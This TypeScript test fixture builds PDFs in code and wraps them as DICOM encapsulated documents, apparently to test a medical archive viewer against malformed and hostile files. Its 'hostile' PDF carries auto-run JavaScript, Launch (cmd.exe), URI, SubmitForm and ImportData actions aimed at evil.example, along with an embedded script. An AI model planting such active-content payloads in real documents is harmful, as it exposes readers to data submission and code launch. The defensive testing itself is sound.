import { writeDicom, type Attributes } from '../../server/testing/writeDicom';
import { HEAVY, type HeavyPage } from './heavyPdfs';

/** PDFs made by code: what is true of them is written here, and no file with a script in it lies in the repository. */

interface PageParts {
  /** Lines from top to bottom; 14 points Helvetica, which no file here embeds. */
  readonly lines?: readonly string[];
  readonly width?: number;
  readonly height?: number;
  readonly rotate?: number;
  /** What is drawn, in place of lines. */
  readonly content?: string;
  /** The object of the content as a whole. */
  readonly stream?: string;
  /** Entries of the page, such as annotations. */
  readonly more?: string;
  /** Entries of its resources, in place of two fonts. */
  readonly resources?: string;
}

interface PdfParts {
  readonly pages: readonly PageParts[];
  /** Entries of the catalog. */
  readonly catalog?: string;
  /** Further objects by their number, from 900 on. */
  readonly objects?: Readonly<Record<number, string>>;
  readonly trailer?: string;
  /** What the tree of pages leads to, in place of the pages. */
  readonly kids?: string;
}

const escaped = (line: string): string => line.replaceAll(/[\\()]/g, String.raw`\$&`);

/** A PDF 1.7 with a cross-reference table (ISO 32000-1, 7.5). */
export function writePdf({ pages, catalog = '', objects = {}, trailer = '', ...parts }: PdfParts): Buffer {
  const all = new Map<number, string>();
  const pageOf = (at: number) => 10 + 2 * at;
  all.set(1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`);
  const kids = parts.kids ?? pages.map((_, at) => `${pageOf(at)} 0 R`).join(' ');
  all.set(2, `<< /Type /Pages /Count ${pages.length} /Kids [${kids}] >>`);
  all.set(3, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  pages.forEach(({ lines = [], width = 595, height = 842, rotate = 0, more = '', ...parts }, at) => {
    const resources = parts.resources ?? '/Font << /F1 3 0 R /F2 990 0 R >>';
    const text = lines.map((line) => `(${escaped(line)}) Tj T*`).join('\n');
    const content = parts.content ?? `BT /F1 14 Tf 18 TL 72 ${height - 72} Td\n${text}\nET`;
    all.set(
      pageOf(at),
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Rotate ${rotate} /Contents ${pageOf(at) + 1} 0 R /Resources << ${resources} >> ${more} >>`,
    );
    all.set(pageOf(at) + 1, parts.stream ?? `<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
  });
  for (const [number, object] of Object.entries(objects)) all.set(Number(number) + 100_000, object);
  let body = '%PDF-1.7\n';
  const places: string[] = [];
  const renumbered = (text: string) =>
    text.replaceAll(/\b(9\d\d) 0 R/g, (_, number: string) => `${Number(number) + 100_000} 0 R`);
  for (const [number, object] of all) {
    places.push(`${number} 1\n${String(body.length).padStart(10, '0')} 00000 n \n`);
    body += `${number} 0 obj\n${renumbered(object)}\nendobj\n`;
  }
  const size = Math.max(...all.keys()) + 1;
  const xref = `xref\n0 1\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${renumbered(trailer)} >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(body + xref + end, 'latin1');
}

/** Pages without anything on them, each a few letters in the file, which leaves its cross-references out. */
export const manyPages = (count: number): Buffer =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /MediaBox [0 0 595 842] /Count ${count} /Kids [${'<</Type/Page>>'.repeat(count)}] >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n`,
    'latin1',
  );

/** A report of three pages; page 2 lies on its side. */
export const reportPdf = (): Buffer =>
  writePdf({
    pages: [
      { lines: ['Radiology report', 'Findings: no acute haemorrhage.', 'The lungs are clear.'] },
      { width: 842, height: 595, lines: ['Table of measurements', 'Lesion in the left lung: 12 mm'] },
      {
        lines: [
          'Impression',
          'No acute HAEMORRHAGE. Haemor-',
          'rhage excluded.',
          'End of the report (page 3).',
        ],
      },
    ],
  });

const SCRIPT =
  "app.alert('ran'); app.launchURL('https://evil.example/js'); this.submitForm('https://evil.example/submit');";
const JAVASCRIPT = `/S /JavaScript /JS (${escaped(SCRIPT)})`;
const link = (action: string, at: number) =>
  `<< /Type /Annot /Subtype /Link /Rect [50 ${at} 500 ${at + 60}] /Border [0 0 2] /A << ${action} >> >>`;

/** Everything a PDF may do that no document of an archive has to: each would leave a request, a dialog or another page. */
export const hostile = (): Buffer =>
  writePdf({
    pages: [
      {
        lines: ['This document tries to act.', 'https://evil.example/text'],
        more: `/AA << /O << ${JAVASCRIPT} >> /C << ${JAVASCRIPT} >> >> /Annots [${[
          link('/S /URI /URI (https://evil.example/uri)', 700),
          link('/S /URI /URI (javascript:alert\\(1\\))', 620),
          link('/S /Launch /F (cmd.exe) /NewWindow true', 540),
          link('/S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] /NewWindow true', 460),
          link('/S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> /Flags 4', 380),
          link(`/S /ImportData /F (https://evil.example/data)`, 300),
          link(JAVASCRIPT, 220),
          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [50 140 500 200] /F 4 /MK << /CA (Press me) >> /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/button) >> >> /AA << /E << ${JAVASCRIPT} >> /D << ${JAVASCRIPT} >> >> >>`,
          `<< /Type /Annot /Subtype /FileAttachment /Rect [50 60 100 120] /FS 901 0 R /Contents (attached) >>`,
          `<< /Type /Annot /Subtype /RichMedia /Rect [150 60 200 120] /RichMediaContent << /Assets << /Names [(x) 901 0 R] >> >> >>`,
        ].join(' ')}]`,
      },
    ],
    catalog: `/OpenAction << ${JAVASCRIPT} >> /AA << /WC << ${JAVASCRIPT} >> /WP << ${JAVASCRIPT} >> >> /Names << /JavaScript << /Names [(a) << ${JAVASCRIPT} >>] >> /EmbeddedFiles << /Names [(x.html) 901 0 R] >> >> /AcroForm << /Fields [] /NeedAppearances true /XFA [(template) 903 0 R] >> /URI << /Base (https://evil.example/base/) >>`,
    objects: {
      901: '<< /Type /Filespec /F (x.html) /UF (x.html) /EF << /F 902 0 R >> >>',
      902: '<< /Type /EmbeddedFile /Length 25 >>\nstream\n<script>alert(1)</script>\nendstream',
      903: '<< /Length 61 >>\nstream\n<template xmlns="http://www.xfa.org/schema/xfa-template/2.8/">\nendstream',
    },
  });

/** Encrypted with a password that nobody knows (7.6.3). */
export const locked = (): Buffer =>
  writePdf({
    pages: [{ lines: ['secret'] }],
    objects: {
      904: `<< /Filter /Standard /V 1 /R 2 /P -44 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`,
    },
    trailer: `/Encrypt 904 0 R /ID [<${'43'.repeat(16)}> <${'43'.repeat(16)}>]`,
  });

/** Letters of a Japanese font that is not in the file: what reads them has to be fetched, from our own place. */
export const japanese = (): Buffer =>
  writePdf({
    pages: [{ content: 'BT /F2 14 Tf 72 770 Td <93FA967B> Tj ET' }],
    objects: {
      990: '<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light /Encoding /90ms-RKSJ-H /DescendantFonts [991 0 R] >>',
      991: '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor 992 0 R >>',
      992: '<< /Type /FontDescriptor /FontName /Ryumin-Light /Flags 6 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>',
    },
  });

const heavy = (make: () => HeavyPage): Buffer => {
  const { objects, ...page } = make();
  return writePdf({ pages: [page, { lines: ['The page after it'] }], objects });
};

/** Of each worker's own: what one takes out of Orthanc at its end another may just be looking at. */
const ROOT = `1.2.826.0.1.3680043.10.1.411.${Number(process.env['TEST_WORKER_INDEX'] ?? 0) + 1}`;

/** What the archive is given: each PDF is a series of its own in one study. */
export const DOCUMENTS = {
  report: { number: 1, bytes: reportPdf() },
  hostile: { number: 2, bytes: hostile() },
  page: {
    number: 3,
    bytes: Buffer.from('<!DOCTYPE html><script>document.title = "ran"</script><h1>%PDF-1.7</h1>'),
  },
  locked: { number: 4, bytes: locked() },
  broken: { number: 5, bytes: Buffer.from('%PDF-1.7\nthis is no document at all\n%%EOF\n') },
  empty: { number: 6, bytes: Buffer.alloc(0) },
  cut: { number: 7, bytes: reportPdf().subarray(0, 1500) },
  long: {
    number: 8,
    bytes: writePdf({
      pages: Array.from({ length: 500 }, (_, at) => ({
        lines: [`This is page ${at + 1}.`, 'All pages say this.'],
      })),
    }),
  },
  huge: {
    number: 9,
    bytes: writePdf({
      pages: [
        { width: 200_000, height: 200_000, lines: ['A very large page'] },
        { width: 10, height: 1_000_000, lines: ['A very long page'] },
        { lines: ['The page after them'] },
      ],
    }),
  },
  endless: { number: 13, bytes: manyPages(10_001) },
  model: { number: 10, bytes: Buffer.from('solid thing\nendsolid thing\n') },
  japanese: { number: 11, bytes: japanese() },
  mesh: { number: 21, bytes: heavy(HEAVY.mesh) },
  glyphs: { number: 22, bytes: heavy(HEAVY.glyphs) },
  tiles: { number: 23, bytes: heavy(HEAVY.tiles) },
  forms: { number: 24, bytes: heavy(HEAVY.forms) },
  pictures: { number: 25, bytes: heavy(HEAVY.pictures) },
  layers: { number: 26, bytes: heavy(HEAVY.layers) },
  leftOut: { number: 27, bytes: heavy(HEAVY.leftOut) },
  damaged: { number: 28, bytes: heavy(HEAVY.damaged) },
  path: { number: 29, bytes: heavy(HEAVY.path) },
  spaces: { number: 30, bytes: heavy(HEAVY.spaces) },
  inline: { number: 31, bytes: heavy(HEAVY.inline) },
  halfContent: { number: 32, bytes: heavy(HEAVY.halfContent) },
  noContent: { number: 33, bytes: heavy(HEAVY.noContent) },
  states: { number: 37, bytes: heavy(HEAVY.states) },
  /** Its tree of pages leads back to its root. */
  loop: { number: 36, bytes: writePdf({ pages: [{ lines: ['never reached'] }], kids: '2 0 R' }) },
  noBlend: { number: 35, bytes: heavy(HEAVY.noBlend) },
  foreignLock: {
    number: 34,
    bytes: writePdf({ pages: [{ lines: ['secret'] }], trailer: '/Encrypt << /Filter /Foreign /V 9 >>' }),
  },
  turned: { number: 12, bytes: writePdf({ pages: [{ rotate: 90, lines: ['A page that turns itself'] }] }) },
} as const;

export type DocumentName = keyof typeof DOCUMENTS;

export const PDF_STUDY = ROOT;
export const pdfSeries = (name: DocumentName): string => `${ROOT}.${DOCUMENTS[name].number}`;
export const pdfSop = (name: DocumentName): string => `${pdfSeries(name)}.1`;

/** Encapsulated PDF (PS3.3 A.45.1): whatever is in it, its maker says that it is a PDF. */
export function encapsulated(name: DocumentName): Buffer {
  const { bytes, number } = DOCUMENTS[name];
  const length = Buffer.alloc(4);
  length.writeUInt32LE(bytes.length);
  const attributes: Attributes = {
    '00080016': ['UI', '1.2.840.10008.5.1.4.1.1.104.1'],
    '00080018': ['UI', pdfSop(name)],
    '00080020': ['DA', '20260601'],
    '00080030': ['TM', '101112'],
    '00080060': ['CS', 'DOC'],
    '0008103E': ['LO', `PDF ${name}`],
    '00100010': ['PN', 'Test^Documents'],
    '00100020': ['LO', 'TEST-PDF'],
    '0020000D': ['UI', PDF_STUDY],
    '0020000E': ['UI', pdfSeries(name)],
    '00200011': ['IS', String(number)],
    '00200013': ['IS', '1'],
    '00420011': ['OB', bytes.length % 2 === 0 ? bytes : Buffer.concat([bytes, Buffer.alloc(1)])],
    '00420012': ['LO', 'application/pdf'],
    '00420015': ['UL', length],
  };
  return writeDicom(attributes);
}
